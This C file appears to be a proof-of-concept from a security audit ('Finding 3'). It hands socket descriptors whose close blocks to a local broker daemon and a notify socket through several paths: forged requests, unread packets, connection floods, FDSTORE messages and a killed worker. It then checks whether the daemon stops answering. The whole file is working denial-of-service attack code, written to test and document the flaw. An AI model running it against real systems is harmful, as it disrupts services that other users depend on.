/*
 * Finding 3. A descriptor whose close waits is handed to the daemon, on every way in; the daemon then has the last reference.
 *   lingering-descriptor BROKER broker METHOD           on a request, of a connection that stays
 *   lingering-descriptor BROKER unread                   on packets that nobody reads before the connection is closed
 *   lingering-descriptor BROKER crowd                    on connections beyond those that a user may have
 *   lingering-descriptor BROKER put-forged               253 of them on one put
 *   lingering-descriptor BROKER notify PATH              on messages of the worker's user that is not the worker
 *   lingering-descriptor BROKER worker ORDERS SELF WHAT  on messages of the worker: plain, fdstore, barrier, remove, many, burst, exit
 *   lingering-descriptor - send WHAT                     the worker's part: descriptors 3... are what is sent
 */
#include "attack.h"

#define PEERS 16

static int peers[PEERS], handed[PEERS];

/* The worker's part. */
static int send_from_worker(const char *what)
{
    int fds[PEERS], many[MOST_DESCRIPTORS], count = 0;
    while (count < PEERS && fcntl(3 + count, F_GETFD) >= 0) {
        fds[count] = 3 + count;
        count++;
    }
    if (count == 0)
        errno = 0, broken("no descriptor to send");
    const char *path = notify_path();
    int done = 0;
    if (strcmp(what, "plain") == 0)
        done = notify_at(path, "STATUS=plain", fds, count, 0);
    else if (strcmp(what, "fdstore") == 0) {
        done = notify_at(path, "FDSTORE=1\nFDNAME=kept", fds, count, 0);
        /* Taken for what the store refuses: a poll that says HUP, a name that is none. */
        done |= notify_at(path, "FDSTORE=1\nFDNAME=\x01:", fds, count, 0);
    } else if (strcmp(what, "barrier") == 0) {
        for (int i = 0; i < count; i++)
            done |= notify_at(path, "BARRIER=1", fds + i, 1, 0);
    } else if (strcmp(what, "remove") == 0) {
        done = notify_at(path, "FDSTORE=1\nFDPOLL=0\nFDNAME=removed", fds, count, 0);
        for (int i = 0; i < count; i++)
            close(fds[i]);
        done |= notify_at(path, "FDSTOREREMOVE=1\nFDNAME=removed", NULL, 0, 0);
    } else if (strcmp(what, "many") == 0) {
        for (int i = 0; i < MOST_DESCRIPTORS; i++)
            many[i] = fds[i % count];
        done = notify_at(path, "FDSTORE=1\nFDNAME=many", many, MOST_DESCRIPTORS, 0);
        done |= notify_at(path, "X=many", many, MOST_DESCRIPTORS, 0);
    } else if (strcmp(what, "burst") == 0) {
        for (int i = 0; i < 200; i++)
            done |= notify_at(path, i % 2 ? "BARRIER=1" : "no message", fds + i % count, 1, 0);
    } else if (strcmp(what, "exit") == 0) {
        /* Until nobody is there any more: what lies unread when the worker is gone is closed with the socket. */
        int worker = parent_of(getppid());
        for (int i = 0; i < 4; i++)
            if (fork() == 0) {
                while (notify_at(path, "X=unread", fds, count, 0) == 0)
                    ;
                _exit(0);
            }
        for (int i = 0; i < 20; i++)
            notify_at(path, "X=unread", fds, count, 0);
        kill(worker, SIGKILL);
        return FAILED;
    } else
        errno = EINVAL, broken("%s", what);
    if (done != 0)
        broken("notify %s", what);
    return FAILED;
}

int main(int argc, char **argv)
{
    if (argc < 3)
        errno = EINVAL, broken("lingering-descriptor BROKER HOW...");
    const char *broker = argv[1], *how = argv[2];
    if (strcmp(how, "send") == 0)
        return send_from_worker(argv[3]);
    for (int i = 0; i < PEERS; i++)
        handed[i] = lingering(&peers[i]);
    int kept = -1;

    if (strcmp(how, "broker") == 0) {
        char request[256];
        snprintf(request, sizeof request, "{\"method\":\"%s\",\"name\":\"x\",\"listeners\":[\"web\"]}", argv[3]);
        for (int i = 0; i < PEERS; i++) {
            int fd = dial(broker, SOCK_SEQPACKET);
            if (fd < 0 || send_with(fd, request, strlen(request), handed + i, 1, 0) != 0) {
                if (errno == EPERM || errno == EOPNOTSUPP)
                    continue; /* SO_PASSRIGHTS = 0 (socket(7), Linux 6.16): the kernel refuses the descriptor */
                broken("the broker");
            }
            kept = fd;
        }
    } else if (strcmp(how, "unread") == 0) {
        for (int i = 0; i < PEERS; i++) {
            int fd = dial(broker, SOCK_SEQPACKET);
            if (fd < 0)
                broken("the broker");
            for (int j = 0; j < 20; j++)
                send_with(fd, "{\"method\":\"list\"}", 17, handed + i, 1, MSG_DONTWAIT);
            close(fd);
        }
    } else if (strcmp(how, "crowd") == 0) {
        for (int i = 0; i < 70; i++)
            kept = dial(broker, SOCK_SEQPACKET);
        for (int i = 0; i < PEERS; i++) {
            int fd = dial(broker, SOCK_SEQPACKET);
            for (int j = 0; fd >= 0 && j < 5; j++)
                send_with(fd, "{\"method\":\"list\"}", 17, handed + i, 1, MSG_DONTWAIT);
        }
        /* Its own connections end before the broker is asked: one of them is what asks. */
        for (int fd = 3; fd < 1024; fd++) {
            struct sockaddr_un who;
            socklen_t length = sizeof who;
            if (getpeername(fd, (struct sockaddr *)&who, &length) == 0 && who.sun_family == AF_UNIX && fd != kept)
                close(fd);
        }
    } else if (strcmp(how, "put-forged") == 0) {
        int many[MOST_DESCRIPTORS];
        for (int i = 0; i < MOST_DESCRIPTORS; i++)
            many[i] = handed[i % PEERS];
        kept = dial(broker, SOCK_SEQPACKET);
        if (kept < 0)
            broken("the broker");
        send_with(kept, "{\"method\":\"put\",\"name\":\"x\"}", 27, many, MOST_DESCRIPTORS, 0);
        send_with(kept, "no request", 10, many, MOST_DESCRIPTORS, 0);
    } else if (strcmp(how, "notify") == 0) {
        for (int i = 0; i < PEERS; i++)
            if (notify_at(argv[3], i % 2 ? "FDSTORE=1" : "READY=1", handed + i, 1, 0) != 0 && errno != EPERM)
                broken("%s", argv[3]);
    } else if (strcmp(how, "worker") == 0) {
        char *words[] = { argv[4], "-", "send", argv[5], NULL };
        int fds[3 + PEERS] = { 0, 1, 2 };
        memcpy(fds + 3, handed, sizeof handed);
        int status = order(argv[3], words, fds, 3 + PEERS);
        if (status >= 0 && status != FAILED && status != 128 + SIGKILL)
            errno = 0, broken("the worker's part: exit status %d", status);
    } else
        errno = EINVAL, broken("%s", how);

    for (int i = 0; i < PEERS; i++)
        close(handed[i]);
    watch_broker(broker, 1200, how);
    (void)kept;
    failed("%s: the daemon answered throughout", how);
}
